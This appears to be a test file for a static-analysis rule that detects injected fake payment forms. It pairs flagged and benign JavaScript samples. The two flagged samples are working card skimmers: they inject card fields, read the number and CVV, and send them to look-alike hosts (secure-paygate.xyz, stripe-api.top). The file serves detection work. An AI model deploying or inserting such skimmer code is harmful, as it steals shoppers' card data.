// Tests for fake-card-form: a form/input/iframe injected, card fields read and a send to an
// unknown or look-alike host. The finding is reported on the injection. Sections are separate.

// An overlay form injected over the processor iframe.
var overlay = document.createElement('div');
// ruleid: fake-card-form
overlay.innerHTML = '<form id="pay2"><input id="fake_cc_number" autocomplete="cc-number">' +
  '<input id="fake_cc_cvv"><button>Pay</button></form>';
document.querySelector('#payment').appendChild(overlay);
overlay.querySelector('form').addEventListener('submit', function (e) {
  e.preventDefault();
  var d = document.getElementById('fake_cc_number').value + '|' + document.getElementById('fake_cc_cvv').value;
  new Image().src = 'https://secure-paygate.xyz/p.gif?d=' + btoa(d);
  alert('Payment failed, please try again.');
});

// ---
// Inputs created one by one, fetch to a look-alike of Stripe.
var box = document.getElementById('checkout-payment-method-load');
['cardnumber', 'exp-date', 'cvc'].forEach(function (name) {
  // ruleid: fake-card-form
  var el = document.createElement('input');
  el.name = name;
  box.appendChild(el);
});
document.querySelector('.action.checkout').addEventListener('click', function () {
  var body = JSON.stringify({ n: document.querySelector('[name="cardnumber"]').value });
  fetch('https://stripe-api.top/v1/tokens', { method: 'POST', mode: 'no-cors', body: body });
});

// ---
// A 3-D Secure challenge iframe from the processor; the merchant reads its own card field and
// talks only to the site and the processor.
// ok: fake-card-form
var challenge = document.createElement('iframe');
challenge.src = 'https://hooks.stripe.com/3d_secure_2/hosted?id=' + window.intentId;
document.getElementById('threeds').appendChild(challenge);
var n = document.getElementById('card-number').value;
fetch('/checkout/confirm', { method: 'POST', body: JSON.stringify({ bin: n.slice(0, 6) }) });

// ---
// A newsletter sign-up form injected into the footer: no card fields.
var footer = document.querySelector('footer');
// ok: fake-card-form
footer.insertAdjacentHTML('beforeend', '<form id="nl"><input type="email" name="email"></form>');
document.getElementById('nl').addEventListener('submit', function () {
  fetch('https://api.mail-vendor.example.com/subscribe', { method: 'POST',
    body: new FormData(document.getElementById('nl')) });
});
